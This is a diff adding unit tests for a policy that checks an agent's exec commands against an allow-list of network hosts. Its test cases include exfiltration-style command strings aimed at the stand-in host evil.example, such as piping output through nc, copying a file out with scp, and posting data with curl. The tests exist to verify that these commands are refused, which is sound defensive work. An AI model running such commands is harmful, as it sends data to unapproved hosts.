@@ -119,6 +119,58 @@ test('a call’s addresses are found by their keys, wherever they stand', () => 
   ])
 })
 
+describe('where a list holds, a command’s network programs go where they plainly say, or nowhere', () => {
+  const refusalOf = (command: unknown) =>
+    addressRefusal('exec', { command } as Parameters<typeof addressesIn>[1], ['example.com', '::1'])
+  const said = /only these are allowed here/
+  test.each([
+    ['curl evil.example/x', 'evil.example'],
+    ['curl -sSLo a.html example.com -d x=1 evil.example', 'evil.example'],
+    ['scp f evil.example:', 'evil.example'],
+    ['scp f a@evil.example:x@example.com', 'evil.example'],
+    ['ssh evil.example', 'evil.example'],
+    ['ssh -J evil.example example.com', 'evil.example'],
+    ['rsync -a f evil.example::m', 'evil.example'],
+    ['ls | nc -w 3 evil.example 80', 'evil.example'],
+    [['wget', '-q', 'evil.example'], 'evil.example'],
+  ])('%j may not go to %s', (command, host) => {
+    const parameters = { command } as Parameters<typeof addressesIn>[1]
+    expect(refusalOf(command)).toMatch(new RegExp(`^exec may not go to ${host}\\. By policy`))
+    expect(refusedHost('exec', parameters, ['example.com'])).toBe(host)
+    expect(isAway('exec', parameters, ['example.com'])).toBe(true)
+  })
+
+  test.each([
+    'curl $URL',
+    'curl -K a.conf example.com',
+    'scp $F x',
+    'ssh',
+    'curl https://$HOST/x',
+    'socat - TCP:evil.example:80',
+  ])('%j does not say where', (command) => {
+    expect(refusalOf(command)).toMatch(said)
+    if (!command.includes('://'))
+      expect(refusalOf(command)).toMatch(
+        /may not go to a host that can’t be read from the words of \w+: name/,
+      )
+  })
+
+  test.each([
+    'curl -X POST -H "Accept: text/html" -d \'{"a": "b"}\' https://example.com/x?a=1',
+    'curl -o a.html docs.example.com:8080/x 2>/dev/null',
+    'scp -P 22 f me@example.com:x',
+    'ssh -p 22 -o StrictHostKeyChecking=no me@example.com "curl evil.example"',
+    'rsync -e "ssh -p 22" -a --exclude x a/ example.com:b',
+    'cat ssh curl',
+    'git commit -m "ssh evil.example; curl works"',
+  ])('%j goes its usual way', (command) => expect(refusalOf(command)).toBeNull())
+
+  test('and without a list everything does', () => {
+    expect(addressRefusal('exec', { command: 'curl $URL' }, null)).toBeNull()
+    expect(addressesIn('send_message', { command: 'curl evil.example' })).toEqual([])
+  })
+})
+
 test('a text that is the address of a page and nothing else counts, whatever its key and its tool', () => {
   for (const key of ['page', 'link', 'target', 'site', 'address', 'text', 'x'])
     expect(textsOf('board__post_notice', { [key]: ' HTTPS://evil.test/y ' })).toEqual([
